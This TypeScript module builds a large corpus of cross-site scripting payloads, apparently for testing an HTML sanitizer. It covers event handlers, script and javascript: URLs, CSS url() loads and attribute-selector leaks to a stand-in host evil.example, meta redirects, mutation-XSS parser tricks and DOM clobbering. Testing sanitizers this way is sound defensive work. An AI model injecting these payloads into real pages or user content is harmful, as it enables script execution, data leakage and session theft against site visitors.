import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'

/**
 * HTML that wants to run something, load something, or lead somewhere. `alert` is the canary, `evil.example` the far
 * end.
 */
export function ownPayloads(): string[] {
  return [
    ...new Set([...handlers(), ...scripts(), ...addresses(), ...styles(), ...fetchers(), ...mutations, ...shapes]),
  ]
}

/** The published sets, where they lie; empty where they do not. */
export function publishedPayloads(): string[] {
  const folder = join(import.meta.dirname, '../../shared/corpus/xss')
  if (!existsSync(folder)) return []
  return ['bluemonday.jsonl', 'dompurify.jsonl'].flatMap((file) =>
    readFileSync(join(folder, file), 'utf8')
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { payload: string }).payload),
  )
}

const far = 'https://evil.example'

function handlers(): string[] {
  const fired =
    'load error focus blur click mouseover mouseenter pointerenter animationstart animationend transitionend toggle beforetoggle wheel copy paste cut drag input change invalid scroll resize hashchange message pageshow begin end canplay play contextmenu auxclick contentvisibilityautostatechange'
  const carriers = [
    (name: string) => `<p tabindex=0 autofocus on${name}=alert(1)>x</p>`,
    (name: string) => `<img src=x oN${name}="alert(1)">`,
    (name: string) => `<body on${name}=alert(1)>`,
  ]
  return fired.split(' ').flatMap((name) => carriers.map((carry) => carry(name)))
}

function scripts(): string[] {
  const wrappers = [
    'svg',
    'math',
    'template',
    'noscript',
    'xmp',
    'noembed',
    'noframes',
    'textarea',
    'title',
    'select',
    'option',
    'iframe',
    'object',
    'plaintext',
    'listing',
    'frameset',
    'foreignObject',
    'annotation-xml',
    'table',
    'button',
    'marquee',
    'dialog',
    'details open ontoggle=alert(1)',
    'portal',
    'fencedframe',
    'custom-element',
    'o:p',
    'v:rect',
    '!--',
    '![CDATA[',
    '?xml ',
    '![if !mso]',
  ]
  return [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script type=module>import("https://evil.example/x.js")</script>',
    '<script type=speculationrules>{"prerender":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script >',
    '<\0script>alert(1)</script>',
    '<script\x0c>alert(1)</script\x0c>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<<script>alert(1);//<</script>',
    '<script>alert(1)',
    '</script><script>alert(1)</script>',
    '<a href="x"><script>alert(1)</script',
    ...wrappers.map((tag) => `<${tag}><script>alert(1)</script><img src=x onerror=alert(1)></${tag.split(' ')[0]}>`),
  ]
}

/** Every attribute that is an address, with every address that runs or fetches. */
function addresses(): string[] {
  const carriers = [
    (url: string) => `<a href="${url}">x</a>`,
    (url: string) => `<img src="${url}">`,
    (url: string) => `<iframe src="${url}"></iframe>`,
    (url: string) => `<form action="${url}"><button formaction="${url}">x</button></form>`,
    (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a><use href="${url}"/></svg>`,
  ]
  const urls = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java&NewLine;script&colon;alert(1)',
    '&#x6a;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&#x3A;alert(1)',
    'vbscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'view-source:javascript:alert(1)',
    'blob:https://evil.example/1',
    'filesystem:https://evil.example/1',
    'feed:javascript:alert(1)',
    '//evil.example/x',
    '/\\evil.example/x',
    'https:evil.example/x',
    '/api/auth/logout',
    'x',
  ]
  return urls.flatMap((url) => carriers.map((carry) => carry(url)))
}

function styles(): string[] {
  const declarations = [
    `background:url(${far}/a)`,
    `background-image:URL('${far}/a')`,
    `background:u\\72l(${far}/a)`,
    `background:u/**/rl(${far}/a)`,
    `background:url(/**/${far}/a)`,
    `background:image-set('${far}/a' 1x)`,
    `background:-webkit-image-set(url(${far}/a) 1x)`,
    `background:image('${far}/a')`,
    `background:cross-fade(url(${far}/a),red)`,
    `background:var(--x,url(${far}/a))`,
    `--x:url(${far}/a);background:var(--x)`,
    `background:src('${far}/a')`,
    `list-style:url(${far}/a)`,
    `list-style-image:url(${far}/a)`,
    `cursor:url(${far}/a),auto`,
    `content:url(${far}/a)`,
    `border-image:url(${far}/a) 1`,
    `mask:url(${far}/a#m)`,
    `-webkit-mask-image:url(${far}/a)`,
    `clip-path:url(${far}/a#c)`,
    `filter:url(${far}/a#f)`,
    `shape-outside:url(${far}/a)`,
    `offset-path:url(${far}/a#p)`,
    `behavior:url(${far}/a.htc)`,
    `-moz-binding:url(${far}/a.xml#x)`,
    'width:expression(alert(1))',
    'color:red;position:fixed;inset:0;z-index:9999',
    `color:red}*{background:url(${far}/a)}`,
    `color:red&quot; onmouseover=&quot;alert(1)`,
    `font-family:x;src:url(${far}/a)`,
    `background:url(&quot;${far}/a&quot;)`,
    `background:\\75\\72\\6c(${far}/a)`,
    `width:attr(x url(${far}/a))`,
    'all:initial;position:sticky;top:0',
  ]
  const sheets = [
    `@import url(${far}/a.css);`,
    `@import "${far}/a.css" layer(x);`,
    `@font-face{font-family:x;src:url(${far}/a.woff2)}*{font-family:x}`,
    `@namespace url(${far}/ns);`,
    `*{background:url(${far}/a)}`,
    `input[value^=a]{background:url(${far}/a)}`,
    `@media all{*{cursor:url(${far}/a),auto}}`,
    `@keyframes x{from{background:url(${far}/a)}}*{animation:x 1s}`,
    '</style><img src=x onerror=alert(1)>',
    '<!--</style><script>alert(1)</script>-->',
  ]
  return [
    ...declarations.map((style) => `<div style="${style}">x</div>`),
    ...declarations.slice(0, 20).map((style) => `<table><tr><td style='${style}'>x</td></tr></table>`),
    ...sheets.map((sheet) => `<style>${sheet}</style><p>x</p>`),
    ...sheets.map((sheet) => `<svg><style>${sheet}</style></svg>`),
  ]
}

function fetchers(): string[] {
  return [
    `<img srcset="${far}/a 1x, ${far}/b 2x">`,
    `<img src="${far}/a" srcset="${far}/b" loading=eager fetchpriority=high>`,
    `<img src=" ${far}/a">`,
    `<img lowsrc="${far}/a" dynsrc="${far}/b" longdesc="${far}/c">`,
    `<img data-remote-src="${far}/a" src="cid:nothing">`,
    `<image src="${far}/a">`,
    `<image xlink:href="${far}/a">`,
    `<picture><source srcset="${far}/a"><img src="${far}/b"></picture>`,
    `<video src="${far}/a" poster="${far}/b" autoplay><track src="${far}/c" default></video>`,
    `<audio src="${far}/a" autoplay></audio>`,
    `<link rel=stylesheet href="${far}/a.css">`,
    ...'prefetch preload prerender preconnect dns-prefetch modulepreload icon manifest'
      .split(' ')
      .map((rel) => `<link rel="${rel}" href="${far}/a" as=image>`),
    `<meta http-equiv=refresh content="0;url=${far}/">`,
    `<meta http-equiv="refresh" content="0; url='javascript:alert(1)'">`,
    `<meta http-equiv=set-cookie content="a=b">`,
    `<meta http-equiv="Content-Security-Policy" content="report-uri ${far}/">`,
    `<base href="${far}/"><a href="x">x</a><img src="x">`,
    `<base target=_top><a href="${far}">x</a>`,
    `<table background="${far}/a"><tr background="${far}/b"><td background="${far}/c">x</table>`,
    `<body background="${far}/a">`,
    `<object data="${far}/a"><param name=movie value="${far}/b"></object>`,
    `<embed src="${far}/a">`,
    `<applet code=x archive="${far}/a"></applet>`,
    `<frameset><frame src="${far}/a"></frameset>`,
    `<iframe srcdoc="<img src=${far}/a onerror=alert(1)>"></iframe>`,
    `<iframe src="${far}/a" loading=eager></iframe>`,
    `<input type=image src="${far}/a">`,
    `<isindex action="${far}/a" type=image src="${far}/b">`,
    `<button form=f formaction="${far}">x</button><form id=f></form>`,
    `<a href="${far}" ping="${far}/ping">x</a>`,
    `<blockquote cite="${far}/a">x</blockquote>`,
    `<bgsound src="${far}/a">`,
    `<layer src="${far}/a"></layer>`,
    `<html manifest="${far}/a"><head profile="${far}/b">`,
    `<svg><image href="${far}/a"/><feImage href="${far}/b"/></svg>`,
    `<svg><use href="${far}/a#x"/></svg>`,
    `<svg><animate attributeName=href values="javascript:alert(1)"/><set attributeName=onload to=alert(1)></svg>`,
    `<svg><foreignObject><iframe src="${far}/a"></iframe></foreignObject></svg>`,
    `<math href="javascript:alert(1)"><mi xlink:href="${far}/a">x</mi></math>`,
    `<div><template shadowrootmode=open><img src="${far}/a" onerror=alert(1)></template></div>`,
    `<v:fill src="${far}/a"/><v:imagedata src="${far}/b"/>`,
    `<!--[if gte mso 9]><v:background><v:fill src="${far}/a"/></v:background><![endif]-->`,
    `<?xml-stylesheet href="${far}/a.css"?>`,
    `<!DOCTYPE html SYSTEM "${far}/a.dtd" [<!ENTITY x SYSTEM "${far}/b">]>&x;`,
    `<portal src="${far}/a"></portal>`,
    `<col background="${far}/a"><hr style="background:url(${far}/b)">`,
  ]
}

/** What one reader of HTML takes for text, another for a tag. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><a title="</style><img src onerror=alert(1)>"></style>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<img alt="`><script>alert(1)</script>">',
  '<img title="a`onerror=alert(1) ">',
  "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<font face="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</font>',
  '<p style="font-family:&quot;}*{background:url(https://evil.example/a)}&quot;">x</p>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<template><p title="</template><img src=x onerror=alert(1)>">',
  '<select><template><style><!--</style><img src=x onerror=alert(1)>--></template></select>',
  '<table><td><svg><desc><td><img src=x onerror=alert(1)></desc></svg></table>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>',
  '<a@x.example><img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)/@x.example>',
  '<svg/onload=alert(1)//@x.example>',
  '<p id="a@b.example><img src=x onerror=alert(1)>">',
]

const shapes = [
  '<!-- <!-- --><img src=x onerror=alert(1)> -->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!--x--!><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><img src=x onerror=alert(1)><![endif]-->',
  '<!--[if !mso]><!--><img src=x onerror=alert(1)><!--<![endif]-->',
  '<![if !supportLists]><img src=x onerror=alert(1)><![endif]>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<%<img src=x onerror=alert(1)>%>',
  '<?php <img src=x onerror=alert(1)> ?>',
  '<//><img src=x onerror=alert(1)>',
  '</ ><img src=x onerror=alert(1)>',
  '</p onclick=alert(1)><img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src=x onerror\0=alert(1)>',
  '<img src=x "" onerror=alert(1)>',
  '<img src=x a="b"onerror=alert(1)>',
  "<img src='x'onerror='alert(1)'>",
  '<img src=`x` onerror=`alert(1)`>',
  '<img/\x0bsrc=x\x0conerror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img src=x onerror=alert(1)//',
  '<img src="x" onerror="alert(1)"',
  '"><img src=x onerror=alert(1)>',
  '--></style></script><img src=x onerror=alert(1)>',
  '</body></html><img src=x onerror=alert(1)>',
  '</div></div></div></table><script>alert(1)</script>',
  '<p is="x-evil" part="a" slot="b" popover autofocus tabindex=1 accesskey=x contenteditable onfocus=alert(1)>x</p>',
  '<a id=location name=cookie href="#">x</a><form name=body></form><img name=getElementById>',
  '<img name=querySelector id=defaultView><a id=contentDocument>x</a>',
  `${'<b>'.repeat(300)}<img src=x onerror=alert(1)>`,
  `${'<table><tr><td>'.repeat(120)}<img src=x onerror=alert(1)>`,
  `<p title="${'a'.repeat(5000)}" onclick=alert(1)>x</p>`,
]
